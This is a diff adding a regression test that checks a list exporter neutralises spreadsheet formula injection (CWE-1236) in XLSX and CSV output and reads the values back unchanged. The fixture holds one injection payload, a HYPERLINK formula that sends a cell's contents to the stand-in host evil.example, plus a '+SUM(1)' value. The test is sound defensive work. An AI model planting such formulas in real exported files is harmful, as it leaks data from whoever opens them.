@@ -735,6 +735,53 @@ def test_cli_dry_run_report_and_export_list_round_trip(
     assert " 0 neu / created, 0 geändert / changed" in done.stderr  # the list reads back
 
 
+@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
+def test_a_listed_text_that_looks_like_a_formula_stays_text_and_reads_back(
+    example_store_path: Path, tmp_path: Path, suffix: str
+) -> None:
+    """Exploratory test: a description "=HYPERLINK(…)" was written into the exported XLSX as a
+    live formula (XlsxWriter's default) and into the CSV as it was, to run when the office
+    opens the list (CWE-1236); read back, the XLSX gave the formula's cached 0, a change.
+    Now an XLSX cell is a text cell, a CSV cell gets an apostrophe that the import takes off
+    again, and the list reads back unchanged."""
+    formula = '=HYPERLINK("http://evil.example/steal?x="&A1,"Klick hier")'
+    with Store.open(example_store_path) as store:
+        label = next(q for q in store.quads(None, ox.NamedNode(SKOS + "prefLabel"))
+                     if "/organisation/" in q.subject.value)  # fmt: skip
+        described = [
+            q
+            for p in (DCTERMS + "description", SKOS + "altLabel")
+            for q in store.quads(label.subject, ox.NamedNode(p))
+            if q.object.language == "de"
+        ]  # the list has one of each in German
+        Writer(store).commit(Change(remove=described, add=[
+            ox.Quad(label.subject, ox.NamedNode(DCTERMS + "description"),
+                    ox.Literal(formula, language="de"), label.graph_name),
+            ox.Quad(label.subject, ox.NamedNode(SKOS + "altLabel"),
+                    ox.Literal("+SUM(1)", language="de"), label.graph_name),
+        ]))  # fmt: skip
+    exported = tmp_path / f"organisationen{suffix}"
+    done = run_cli("export-list", "--mapping", str(ORGS), "--output", str(exported),
+                   store=example_store_path)  # fmt: skip
+    assert done.returncode == 0, done.stderr
+    if suffix == ".xlsx":
+        with zipfile.ZipFile(exported) as book:
+            sheet = book.read("xl/worksheets/sheet1.xml").decode()
+        assert "<f>" not in sheet and 't="inlineStr"><is><t>=HYPERLINK(' in sheet  # a text
+    else:
+        text = exported.read_text(encoding="utf-8-sig")
+        assert "'=HYPERLINK(" in text and "'+SUM(1)" in text
+        assert not any(cell.startswith(("=", "+")) for line in csv.reader(
+            text.splitlines(), delimiter=";") for cell in line)  # fmt: skip
+    rows = read_sheets(exported)[0].rows
+    assert any(formula in row for row in rows)
+    assert any(str(c).startswith("+SUM(1)") for row in rows for c in row)
+    done = run_cli("import", str(exported), "--mapping", str(ORGS), "--dry-run",
+                   store=example_store_path)  # fmt: skip
+    assert done.returncode == 0, done.stderr
+    assert " 0 neu / created, 0 geändert / changed" in done.stderr
+
+
 def _in_a_terminal(store: Path, *args: str) -> tuple[int, str]:
     """`akteursgraph` with its stderr a pseudo-terminal (as when a person watches it) and its
     stdout a pipe; the exit code and all the terminal showed."""
